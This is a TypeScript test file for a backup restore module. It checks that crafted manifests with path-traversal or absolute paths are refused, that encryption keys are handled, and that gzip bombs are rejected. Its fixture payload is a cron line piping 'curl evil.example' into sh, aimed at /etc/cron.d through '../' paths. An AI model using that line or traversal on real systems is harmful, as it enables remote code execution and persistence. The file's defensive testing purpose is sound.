import { randomBytes } from 'node:crypto'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import {
  BACKUP_FORMAT,
  BACKUP_FORMAT_VERSION,
  BackupError,
  type Manifest,
  ManifestSchema,
  PRODUCT,
  partCodec,
  sealManifest,
  sha256Hex,
} from './backup.format'
import { openBackup } from './backup.restore'

const work = mkdtempSync(join(tmpdir(), 'wangge-backup-format-'))

/** A backup written by hand, as someone who never held the backup key could write one. */
function craftedBackup(
  files: { name: string; path: string; plain: Buffer; stored?: Buffer; plainBytes?: number }[],
  key: Buffer | null = null,
): string {
  const dir = join(work, randomBytes(4).toString('hex'))
  mkdirSync(join(dir, 'files'), { recursive: true })
  const codec = partCodec(key ? { algorithm: 'aes-256-gcm', key } : null)
  const parts = files.map(({ name, path, plain, stored, plainBytes }) => {
    const bytes = stored ?? codec.encode(name, plain)
    writeFileSync(join(dir, name), bytes)
    return {
      name,
      path,
      sha256: sha256Hex(bytes),
      bytes: bytes.length,
      plainBytes: plainBytes ?? plain.length,
    }
  })
  const manifest: Manifest = {
    format: BACKUP_FORMAT,
    formatVersion: BACKUP_FORMAT_VERSION,
    product: { name: PRODUCT, version: '1.0.0' },
    createdAt: new Date().toISOString(),
    driver: 'pglite',
    migrations: { count: 0, last: null },
    encryption: null,
    tables: {},
    sequences: {},
    parts,
  }
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(sealManifest(manifest, codec.encryption)))
  return dir
}

const payload = Buffer.from('* * * * * root curl evil.example | sh\n')
const hash = sha256Hex(payload)
const stored = `${hash.slice(0, 2)}/${hash.slice(2, 4)}/${hash}`

describe('backup manifest', () => {
  it.each([
    ['a path out of the attachments directory', `../../../../etc/cron.d/${hash}`],
    ['an absolute path', `/etc/cron.d/${hash}`],
    ['a path of other folders than the hash gives', `00/00/${hash}`],
    ['a path ending in another hash', `${stored.slice(0, 6)}${'0'.repeat(64)}`],
  ])('refuses %s', async (_what, path) => {
    const dir = craftedBackup([{ name: `files/${hash}`, path, plain: payload }])
    await expect(openBackup(dir, null)).rejects.toThrow(/manifest is incomplete/)
  })

  it('accepts an attachment stored at ab/cd/<its sha256>', async () => {
    const dir = craftedBackup([{ name: `files/${hash}`, path: stored, plain: payload }])
    const { manifest } = await openBackup(dir, null)
    expect(manifest.parts.map((p) => p.path)).toEqual([stored])
    expect(ManifestSchema.safeParse(manifest).success).toBe(true)
  })
})

describe('backup key', () => {
  it('refuses an unencrypted backup when a key is given, unless told to allow it', async () => {
    const dir = craftedBackup([{ name: `files/${hash}`, path: stored, plain: payload }])
    const key = randomBytes(32)
    await expect(openBackup(dir, key)).rejects.toThrow(
      /not encrypted, yet a key was given.*--allow-unencrypted/,
    )
    await expect(openBackup(dir, key, { allowUnencrypted: true })).resolves.toMatchObject({ dir })
  })

  it('opens a backup encrypted with the key given', async () => {
    const key = randomBytes(32)
    const dir = craftedBackup([{ name: `files/${hash}`, path: stored, plain: payload }], key)
    const { codec, manifest } = await openBackup(dir, key)
    expect(manifest.encryption?.algorithm).toBe('aes-256-gcm')
    expect(codec.encryption?.key.equals(key)).toBe(true)
  })
})

describe('part decoding', () => {
  const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024))

  it('refuses a part that expands beyond the size its manifest declares', () => {
    const codec = partCodec(null)
    expect(() => codec.decode(`files/${hash}`, bomb, 1024)).toThrow(BackupError)
    expect(codec.decode(`files/${hash}`, bomb, 8 * 1024 * 1024).length).toBe(8 * 1024 * 1024)
  })

  it('refuses a part whose size differs from the declared one', () => {
    const codec = partCodec(null)
    expect(() => codec.decode(`files/${hash}`, gzipSync(payload), payload.length + 1)).toThrow(
      /cannot be read/,
    )
  })
})
